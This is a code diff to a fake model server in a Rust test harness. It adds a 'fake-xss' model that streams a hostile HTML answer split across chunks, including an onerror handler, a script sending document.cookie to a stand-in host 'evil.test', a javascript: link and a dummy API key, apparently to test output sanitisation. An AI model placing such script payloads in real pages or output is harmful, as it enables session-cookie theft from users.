@@ -68,6 +68,23 @@ impl Behaviour {
     }
 }
 
+/// The answer the model `model` streams, chunk by chunk: [`xss_chunks`] for
+/// `fake-xss`, else [`answer_chunks`].
+pub fn answer_for(model: &str) -> &'static [&'static str] {
+    if model == "fake-xss" { xss_chunks() } else { answer_chunks() }
+}
+
+/// A hostile answer: a page whose script vectors are split across chunks.
+pub fn xss_chunks() -> &'static [&'static str] {
+    &[
+        "Here is your page:\n```html\n<!DOCTYPE html>\n<html><body><h1>Pwned?</h1><img src=x on",
+        "error=\"alert(1)\"><scr",
+        "ipt>fetch('https://evil.test/steal?c='+document.cookie)</script>",
+        "<a href=\"javascript:alert(2)\">click</a><p>key sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz012345</p>",
+        "</body></html>\n```\nDone.",
+    ]
+}
+
 /// The answer every vendor streams, chunk by chunk.
 pub fn answer_chunks() -> &'static [&'static str] {
     &[
@@ -168,7 +185,7 @@ impl Upstream {
             }
             Behaviour::Slow => {
                 let guard = Abandoned(Some(self.abandoned.clone()));
-                let repeated: Vec<String> = events.iter().skip(1).take(answer_chunks().len()).cloned().collect();
+                let repeated: Vec<String> = events.iter().skip(1).take(2).cloned().collect();
                 let ticks = stream::unfold((guard, 0usize), move |(mut guard, tick)| {
                     let event = repeated[tick % repeated.len()].clone();
                     async move {
@@ -241,12 +258,13 @@ async fn openai(State(upstream): State<Upstream>, request: Request) -> Response 
             "choices": [{ "index": 0, "delta": delta, "finish_reason": finish }],
         }))
     };
+    let answer = answer_for(&model);
     let mut events = vec![chunk(json!({ "role": "assistant", "content": "" }), Value::Null)];
-    events.extend(answer_chunks().iter().map(|text| chunk(json!({ "content": text }), Value::Null)));
+    events.extend(answer.iter().map(|text| chunk(json!({ "content": text }), Value::Null)));
     events.push(chunk(json!({}), json!("stop")));
     events.push(data(&json!({
         "id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 0, "model": model, "choices": [],
-        "usage": { "prompt_tokens": 42, "completion_tokens": answer_chunks().len(), "total_tokens": 42 + answer_chunks().len() },
+        "usage": { "prompt_tokens": 42, "completion_tokens": answer.len(), "total_tokens": 42 + answer.len() },
     })));
     events.push("data: [DONE]\n\n".to_owned());
     upstream.respond(Behaviour::of(&model), events, "data: {\"choices\": [\n\n").await
@@ -284,7 +302,8 @@ async fn anthropic(State(upstream): State<Upstream>, request: Request) -> Respon
         ),
         event("ping", json!({ "type": "ping" })),
     ];
-    events.extend(answer_chunks().iter().map(|text| {
+    let answer = answer_for(&model);
+    events.extend(answer.iter().map(|text| {
         event(
             "content_block_delta",
             json!({ "type": "content_block_delta", "index": 0, "delta": { "type": "text_delta", "text": text } }),
@@ -294,7 +313,7 @@ async fn anthropic(State(upstream): State<Upstream>, request: Request) -> Respon
     events.push(event(
         "message_delta",
         json!({ "type": "message_delta", "delta": { "stop_reason": "end_turn", "stop_sequence": null },
-            "usage": { "output_tokens": answer_chunks().len() } }),
+            "usage": { "output_tokens": answer.len() } }),
     ));
     events.push(event("message_stop", json!({ "type": "message_stop" })));
     upstream.respond(Behaviour::of(&model), events, "event: content_block_delta\ndata: {not json\n\n").await
@@ -317,8 +336,9 @@ async fn gemini(
     if !query.iter().any(|(name, value)| name == "alt" && value == "sse") {
         return upstream.error(StatusCode::BAD_REQUEST, "this fake only streams with alt=sse");
     }
-    let total = answer_chunks().len();
-    let events = answer_chunks()
+    let answer = answer_for(model);
+    let total = answer.len();
+    let events = answer
         .iter()
         .enumerate()
         .map(|(index, text)| {
